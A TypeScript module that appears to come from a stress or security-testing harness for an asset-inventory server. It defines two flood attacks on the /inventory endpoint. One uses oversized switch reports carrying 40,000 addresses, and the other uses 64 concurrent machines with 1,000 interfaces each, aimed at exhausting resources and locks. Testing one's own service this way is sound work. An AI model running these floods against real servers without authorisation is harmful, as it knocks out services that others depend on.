/** One machine with more addresses, or more names by which it is known, than any real one. */
import type { Attack } from '../attack.ts';
import { floodWith } from '../target/flood.ts';

const CLIENTS = 16;

const ADDRESSES = Array.from({ length: 20_000 }, (_, i) => `10.${i >> 16}.${(i >> 8) & 255}.${i & 255}`);

const SWITCH = JSON.stringify({
  action: 'inventory',
  deviceid: 'attack-switch',
  itemtype: 'NetworkEquipment',
  content: {
    versionclient: 'attack',
    network_device: { type: 'Networking', name: 'attack-switch', ips: ADDRESSES },
    network_ports: [{ ifnumber: 1, ifname: 'a', mac: '02:00:00:00:00:01', ips: ADDRESSES }],
  },
});

export const manyAddresses: Attack = {
  name: 'addresses',
  title: 'inventories of a switch with 40,000 addresses, 16 at once, with one key',
  needsEnrolmentKey: true,
  flood: async ({ url, enrolmentKey: credential }, tally, signal) => {
    if (credential === null) return;
    await floodWith(url, CLIENTS, tally, signal, () => ({
      base: '',
      path: '/inventory',
      credential,
      body: SWITCH,
    }));
  },
};

/** Each report locks what its machine is known by. */
const INTERFACES = 1_000;

const mac = (client: number, i: number) =>
  [2, client, i >> 8, i & 255, 0, 1].map((byte) => byte.toString(16).padStart(2, '0')).join(':');

const MACHINES = Array.from({ length: 64 }, (_, client) =>
  JSON.stringify({
    action: 'inventory',
    deviceid: `attack-machine-${client}`,
    itemtype: 'Computer',
    content: {
      versionclient: 'attack',
      hardware: { name: `attack-machine-${client}` },
      networks: Array.from({ length: INTERFACES }, (_, i) => ({
        description: `eth${i}`,
        mac: mac(client, i),
        macaddr: mac(client, i),
        type: 'ethernet',
        virtualdev: false,
      })),
    },
  }),
);

export const manyLocks: Attack = {
  name: 'locks',
  title: 'inventories of machines with 1,000 interfaces, 64 at once, with one key',
  needsEnrolmentKey: true,
  flood: async ({ url, enrolmentKey: credential }, tally, signal) => {
    if (credential === null) return;
    await floodWith(url, MACHINES.length, tally, signal, (client) => ({
      base: '',
      path: '/inventory',
      credential,
      body: MACHINES[client] ?? '',
    }));
  },
};
